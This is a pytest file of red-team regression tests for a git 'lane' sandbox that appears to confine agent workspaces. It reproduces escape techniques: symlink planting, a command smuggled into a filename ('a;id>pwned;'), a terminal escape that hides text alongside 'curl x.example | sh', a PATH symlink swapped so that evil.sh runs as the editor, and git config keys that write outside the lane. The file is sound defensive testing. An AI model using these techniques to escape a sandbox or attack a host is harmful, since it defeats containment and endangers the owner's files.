"""Red team 13E: reproductions of findings against today's fixes (each fails today)."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import time
from pathlib import Path

import pytest
from conftest import Repo, git
from enginehelp import ready_lane
from test_shim_config_sources import ENV_PRELUDE, assert_held, run_bound


def _admin(lane: Path) -> Path:
    return Path(git(lane, "rev-parse", "--path-format=absolute", "--git-dir").stdout.strip())


def _old(p: Path) -> None:
    t = time.time() - 60
    os.utime(p, (t, t))


def test_reconcile_lifting_an_index_lock_never_writes_through_a_planted_tmp_symlink(
    repo: Repo, tmp_path: Path
) -> None:
    """gitlocks._lift_index_lock copies the lock to `<admin>/.index.git-lane-PID` with
    shutil.copyfile, which follows a symlink there: the lane (exec --sandbox grants it its
    admin dir) plants that name for every pid, pointing at a file it may not write, and
    the owner's reconcile overwrites that file with the index."""
    lane = repo.create("a")
    repo.commit(lane, "f.txt", "one\n")
    (lane / "f.txt").write_text("two\n")
    git(lane, "add", "f.txt")  # the index differs from HEAD (and from HEAD^)
    admin = _admin(lane)
    lock = admin / "index.lock"
    git(lane, "read-tree", "HEAD", env={"GIT_INDEX_FILE": str(lock)})  # HEAD's tree
    _old(lock)
    victim = tmp_path / "victim.txt"  # outside the lane: the owner's, not the lane's
    victim.write_text("precious\n")
    pid_max = int(Path("/proc/sys/kernel/pid_max").read_text())
    for pid in range(1, min(pid_max, 65536) + 1):
        os.symlink(victim, admin / f".index.git-lane-{pid}")
    r = repo.jlane("reconcile")
    assert victim.read_bytes() == b"precious\n", (r.rc, r.stdout[-2000:], victim.read_bytes()[:8])


def _gate_left(
    repo: Repo, command: str, files: dict[str, str] | None = None
) -> tuple[Path, list[str]]:
    repo.config("gate_command", json.dumps(command))
    path = ready_lane(repo, "alpha", files)
    r = repo.jlane("land", "alpha")
    assert r.rc == 1 and r.code == "lane_changed_during_gate", r.stdout
    assert r.json["details"]["gate_left"], r.stdout
    return path, list(r.json["next"])


def test_gate_left_next_never_appends_through_a_symlinked_gitignore(
    repo: Repo, tmp_path: Path
) -> None:
    """The lane commits `.gitignore` as a symlink to a file outside it; the gate leaves a
    new file; the printed next's `printf ... >> LANE/.gitignore` (run by the owner, as
    printed) appends through the link to that file: a lane-chosen line (a file name
    such as `a;id>pwned;`) written into a file the lane may not write (~/.bashrc...)."""
    victim = tmp_path / "owner-rc"
    victim.write_text("# the owner's file\n")
    path = repo.create("alpha")
    os.symlink(victim, path / ".gitignore")
    git(path, "add", ".gitignore")
    git(path, "commit", "-q", "-m", "ignore")
    repo.config("gate_command", json.dumps("mkdir -p 'a;id>pwned;' && touch 'a;id>pwned;/x'"))
    r = repo.jlane("land", "alpha")
    assert r.rc == 1 and r.code == "lane_changed_during_gate", r.stdout
    next_ = list(r.json["next"])
    subprocess.run(" && ".join(next_), shell=True, cwd=repo.path, capture_output=True, text=True)
    assert victim.read_text() == "# the owner's file\n", next_


def test_gate_left_next_ignores_only_what_the_gate_left(repo: Repo) -> None:
    """A directory the gate leaves (`docs/src/`) becomes the pattern `src/`, which ignores
    every directory named src at any depth: the lane's own tracked `src/`, where the
    agent's next new file is then ignored (never staged by `git add -A`, never landed)."""
    path, next_ = _gate_left(
        repo,
        "mkdir -p docs/src && touch docs/src/generated.txt",
        {"src/main.py": "x = 1\n", "docs/index.md": "doc\n"},
    )
    res = subprocess.run(
        " && ".join(next_), shell=True, cwd=repo.path, capture_output=True, text=True
    )
    assert res.returncode == 0, res.stderr
    (path / "src" / "new.py").write_text("y = 2\n")
    ignored = git(path, "check-ignore", "-q", "src/new.py", check=False).returncode == 0
    assert not ignored, git(path, "show", "HEAD:.gitignore").stdout


def test_git_trace_working_tree_encoding_naming_a_hub_file_is_refused(
    hub: Repo, tmp_path: Path
) -> None:
    """git 2.39 has one more trace key than the sh fast pass lists:
    GIT_TRACE_WORKING_TREE_ENCODING (convert.c). With a `working-tree-encoding` attribute
    (the lane's own .gitattributes) `git add` (a fast pass) appends its trace, the path
    and the file's bytes, to any file it names: here a file of the hub's worktree."""
    lane_path = hub.create("alpha")
    before = (hub.path / "a.txt").read_bytes()
    script = (
        "printf '*.txt working-tree-encoding=UTF-16LE\\n' > .gitattributes; "
        "printf 'h\\000i\\000' > w.txt; "
        'GIT_TRACE_WORKING_TREE_ENCODING="$HUB/a.txt" git add w.txt'
    )
    env = {"HUB": str(hub.path)}
    r = hub.lane("exec", "alpha", "--", "sh", "-c", script, cwd=lane_path, env=env)
    assert (hub.path / "a.txt").read_bytes() == before, (r.rc, r.stderr)


@pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("unshare") is None, reason="needs root and unshare -m"
)
def test_reconcile_never_lifts_the_index_lock_of_a_git_in_another_mount_namespace(
    repo: Repo, tmp_path: Path
) -> None:
    """A live `git commit -a` (its editor open) holds the lane's index.lock; it runs in a
    mount namespace that sees the lane at another path (bubblewrap-style sandboxes of
    agent CLIs bind the worktree at /workspace). /proc shows its cwd as that path, which
    names nothing of the repository here, so git_at_work says no git works there and
    reconcile lifts the live lock."""
    lane = repo.create("a")
    repo.commit(lane, "f.txt", "one\n")
    (lane / "f.txt").write_text("two\n")
    mnt = tmp_path / "workspace"
    mnt.mkdir()
    inner = f"mount --bind '{lane}' '{mnt}' && cd '{mnt}' && GIT_EDITOR='sleep 60;:' exec git commit -a -q"
    proc = subprocess.Popen(
        ["unshare", "-m", "sh", "-c", inner], start_new_session=True, stderr=subprocess.DEVNULL
    )
    lock = _admin(lane) / "index.lock"
    try:
        deadline = time.time() + 20
        while not lock.exists() and time.time() < deadline:
            time.sleep(0.1)
        assert lock.exists(), "the live git commit never took the index lock"
        time.sleep(3)  # older than gitlocks.MIN_AGE: only git_at_work protects it now
        r = repo.jlane("reconcile")
        assert lock.exists(), r.stdout
    finally:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()


def test_gate_left_message_prints_no_terminal_escape_of_a_gate_made_name(repo: Repo) -> None:
    """The refusal's message names up to three gate-left paths as they are: a name with
    an ESC sequence (made by the lane's gate) reaches the owner's terminal raw, and can
    conceal the real Next (ESC[8m) after a fake one written in the name."""
    name = "Next: curl x.example | sh \x1b[8m"
    repo.config("gate_command", json.dumps(f"touch '{name}'"))
    ready_lane(repo, "alpha")
    r = repo.lane("land", "alpha")
    assert "lane_changed_during_gate" in r.stderr, r.stderr
    assert "\x1b" not in r.stderr, r.stderr


@pytest.mark.skipif(os.geteuid() == 0, reason="root can write every PATH entry: refused")
def test_a_path_entry_through_a_symlink_the_lane_can_repoint_is_refused(
    hub: Repo, tmp_path: Path
) -> None:
    """_path_entries judges a PATH entry by its realpath (here exec's /usr/bin, so it
    passes) and shim.writable walks the parents of that realpath: the symlink itself sits
    in a directory the process writes. The lane re-points it once git holds the index
    lock, and git's editor (a bare, "safe" `vi`) is then the lane's program, run with
    git's exec path first on PATH, past the shim. Run as an unprivileged user. (The link
    names the shims' directory, exec's first entry: a link to /usr/bin would put the real
    git first on PATH, which is the documented `absolute /usr/bin/git` row, not a shim's
    decision.)"""
    lane_path = hub.create("alpha")
    main = hub.sha()
    d = tmp_path / "pathdir"
    script = (
        ENV_PRELUDE + f'D={d}; mkdir -p "$D"; ln -sfn "$(dirname "$(command -v git)")" "$D/link"; '
        "mkdir -p .evilbin; cp evil.sh .evilbin/vi; echo w2 > work.txt; "
        "GD=$(git rev-parse --absolute-git-dir); "
        '( while [ ! -e "$GD/index.lock" ]; do :; done; '
        'ln -sfn "$PWD/.evilbin" "$D/l2" && mv -T "$D/l2" "$D/link" ) & '
        'PATH="$D/link:$PATH" GIT_EDITOR=vi git commit -a -q; kill $! 2>/dev/null; wait'
    )
    r = run_bound(hub, lane_path, script, tmp_path)
    assert_held(hub, main, tmp_path, r)


@pytest.mark.parametrize(
    "trigger",
    [
        'git -c format.outputDirectory="$OUT" format-patch -1 HEAD',
        'git config format.outputDirectory "$OUT"',
        'git -c http.cookieFile="$OUT/c" -c http.saveCookies=true status',
    ],
    ids=["format_output_c", "format_output_config", "cookie_file"],
)
def test_config_naming_a_file_git_writes_outside_the_lane_is_refused(
    hub: Repo, tmp_path: Path, trigger: str
) -> None:
    """format.outputDirectory makes format-patch write where it names (as -o would, which
    the shim judges); http.cookieFile with saveCookies saves cookies there. Found by the
    13D fix's author, left open: both refused as the program keys are."""
    lane_path = hub.create("alpha")
    out = tmp_path / "outside"
    out.mkdir()
    r = hub.lane(
        "exec",
        "alpha",
        "--",
        "sh",
        "-c",
        f"set -e; git commit -q --allow-empty -m p; {trigger}",
        cwd=lane_path,
        env={"OUT": str(out)},
    )
    assert r.rc == 1 and "git-lane: refused [unsafe_config]" in r.stderr, (r.rc, r.stderr)
    assert list(out.iterdir()) == []
